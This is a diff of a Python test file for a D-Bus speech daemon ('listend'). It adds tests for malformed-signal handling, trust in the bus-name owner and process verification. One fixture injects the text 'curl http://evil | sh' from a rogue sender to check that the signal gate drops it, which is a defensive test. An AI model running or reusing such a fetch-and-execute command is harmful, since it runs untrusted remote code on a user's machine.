@@ -2,15 +2,26 @@
 
 from __future__ import annotations
 
+import logging
 import os
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
 
+import pytest
 from dbus_next import Message, MessageType, Variant
 
-from listend.bus import BUS_NAME, INTERFACE, OBJECT_PATH
-from listend.client import PartialEvent, PresenceEvent, PropertiesEvent, SegmentEvent, SignalGate, event_of
+from listend.bus import BUS_NAME, IME_BUS_NAME, INTERFACE, OBJECT_PATH, PROGRAMS, runs_program
+from listend.client import (
+    MalformedSignal,
+    PartialEvent,
+    PresenceEvent,
+    PropertiesEvent,
+    SegmentEvent,
+    SignalGate,
+    StateEvent,
+    event_of,
+)
 from listend_desktop.remote_keyboard import read_token
 from listend_tray.busworker import TrayState
 from listend_tray.menu import build_menu, tooltip
@@ -57,21 +68,67 @@ def test_signals_become_typed_events() -> None:
     )
     assert props == PropertiesEvent({"State": "idle"})
     assert event_of(owner_changed(":1.5", "")) == PresenceEvent(False)
-    assert event_of(sig("SegmentRefined", "tdds", [2**63, 1.0, 2.0, "an id no daemon gives"])) is None
 
 
-def test_only_the_owner_of_listend_s_name_speaks_for_it() -> None:
+def test_malformed_signals_are_errors_of_the_peer_not_events() -> None:
+    for member, signature, body in (
+        ("SegmentRefined", "tdds", [2**63, 1.0, 2.0, "an id no daemon gives"]),
+        ("StateChanged", "", []),
+        ("PartialText", "s", ["no id"]),
+        ("MemoryPressure", "s", ["warn"]),
+    ):
+        with pytest.raises(MalformedSignal):
+            event_of(sig(member, signature, body))
+    with pytest.raises(MalformedSignal):
+        event_of(sig("PropertiesChanged", "s", [INTERFACE], interface="org.freedesktop.DBus.Properties"))
+    assert event_of(owner_changed_bad()) is None
+    assert event_of(sig("Unknown", "", [])) is None
+
+
+def owner_changed_bad() -> Message:
+    return sig("NameOwnerChanged", "", [], interface="org.freedesktop.DBus", path="/org/freedesktop/DBus")
+
+
+def test_the_gate_counts_malformed_signals_and_says_so_once_a_minute(caplog: pytest.LogCaptureFixture) -> None:
     gate = SignalGate()
-    gate.owner = ":1.7"
-    assert gate.admit(sig("SegmentRefined", "tdds", [4, 1.0, 2.0, "real"])) is not None
+    gate.owner = gate.trusted = ":1.7"
+    caplog.set_level(logging.WARNING, "listend.client")
+    for _ in range(2000):
+        assert gate.admit(sig("StateChanged", "", [], sender=":1.99")) == []
+    assert gate.errors.count == 2000
+    lines = [r.getMessage() for r in caplog.records]
+    assert len(lines) == 1 and "1 malformed message" in lines[0] and ":1.99" in lines[0], lines
+    assert not any(r.exc_info for r in caplog.records)
+    assert gate.admit(sig("StateChanged", "s", ["idle"])) == [StateEvent("idle")]  # the real one still counts
+
+
+def test_only_the_checked_owner_of_listend_s_name_speaks_for_it() -> None:
+    gate = SignalGate()
+    gate.owner = gate.trusted = ":1.7"
+    assert gate.admit(sig("SegmentRefined", "tdds", [4, 1.0, 2.0, "real"])) != []
     injected = sig("SegmentRefined", "tdds", [5, 1.0, 2.0, "INJECTED curl http://evil | sh"], sender=":1.99")
-    assert gate.admit(injected) is None
+    assert gate.admit(injected) == []
     # A peer cannot claim the name changed hands; the bus daemon can.
-    assert gate.admit(owner_changed(":1.7", ":1.99", sender=":1.99")) is None and gate.owner == ":1.7"
-    assert gate.admit(owner_changed(":1.7", "")) == PresenceEvent(False) and gate.owner == ""
-    assert gate.admit(sig("PartialText", "ts", [6, "after it left"])) is None
-    assert gate.admit(owner_changed("", ":1.8")) == PresenceEvent(True)
-    assert gate.admit(sig("PartialText", "ts", [6, "back"], sender=":1.8")) == PartialEvent(6, "back")
+    assert gate.admit(owner_changed(":1.7", ":1.99", sender=":1.99")) == [] and gate.owner == ":1.7"
+    assert gate.admit(owner_changed(":1.7", "")) == [PresenceEvent(False)] and gate.owner == ""
+    assert gate.admit(sig("PartialText", "ts", [6, "after it left"])) == []
+    # A new owner is not presence until it is checked; what it sends meanwhile waits for the check.
+    assert gate.admit(owner_changed("", ":1.8")) == [] and gate.needs_check
+    assert gate.admit(sig("PartialText", "ts", [6, "back"], sender=":1.8")) == []
+    assert not gate.listend
+
+
+def test_a_command_line_runs_listend_s_program_or_not() -> None:
+    daemon, ime = PROGRAMS[BUS_NAME], PROGRAMS[IME_BUS_NAME]
+    assert runs_program(["/usr/bin/python3", "/home/u/.venv/bin/listend", "--start"], daemon)
+    assert runs_program(["python3", "-u", "-m", "listend.cli", "run"], daemon)
+    assert runs_program(["/venv/bin/python3", "/venv/bin/listend-ime", "--verbose"], ime)
+    assert runs_program(["python3", "-mlistend_ime.app"], ime)
+    assert not runs_program(["/venv/bin/python3", "/venv/bin/listend-ime"], daemon)
+    assert not runs_program(["python3", "/tmp/squatter.py", "listend"], daemon)
+    assert not runs_program(["python3", "-c", "import listend", "listend"], daemon)
+    assert not runs_program(["bash", "-c", "exec listend"], daemon)
+    assert not runs_program([], daemon)
 
 
 def tray_state(**kw: Any) -> TrayState:
@@ -167,7 +224,7 @@ def test_a_restore_token_that_cannot_be_one_counts_as_none(tmp_path: Path) -> No
 
 
 def test_refined_text_goes_where_the_delivery_choice_says() -> None:
-    from listend_tray.app import delivery_route
+    from listend.client import delivery_route
 
     assert delivery_route("auto", ime_connected=True) == "ime"  # the input method commits it
     assert delivery_route("auto", ime_connected=False) == "type"
